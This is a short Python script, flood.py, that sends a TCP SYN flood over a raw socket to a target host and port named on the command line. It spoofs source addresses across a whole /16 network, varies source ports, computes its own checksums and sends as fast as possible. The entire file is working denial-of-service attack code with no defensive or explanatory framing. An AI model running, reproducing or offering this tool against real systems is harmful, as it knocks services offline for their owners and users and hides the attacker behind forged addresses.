"""flood.py SOURCES TARGET PORT COUNT: COUNT SYNs, each from another address of the network SOURCES (a.b.0.0: its 65,000 addresses) and another
port, over a raw socket, as fast as they go; nobody answers the SYN-ACKs. Prints how many were sent."""
import random, socket, struct, sys


def total(data):
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    s = (s >> 16) + (s & 0xffff)
    return ~(s + (s >> 16)) & 0xffff


network, target, port, count = socket.inet_aton(sys.argv[1])[:2], socket.inet_aton(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4])
hosts = int(sys.argv[5]) if len(sys.argv) > 5 else 65000
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
sent = 0
for k in range(count):
    source = network + struct.pack("!H", 3 + k % hosts)
    tcp = struct.pack("!HHIIBBHHH", 1024 + k % 60000, port, random.getrandbits(32), 0, 0x60, 2, 65535, 0, 0) + b"\x02\x04\x05\xb4"
    tcp = tcp[:16] + struct.pack("!H", total(source + target + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)) + tcp[18:]
    try:
        s.sendto(struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0, 64, 6, 0) + source + target + tcp, (sys.argv[2], 0))
        sent += 1
    except OSError:
        pass
print(sent)
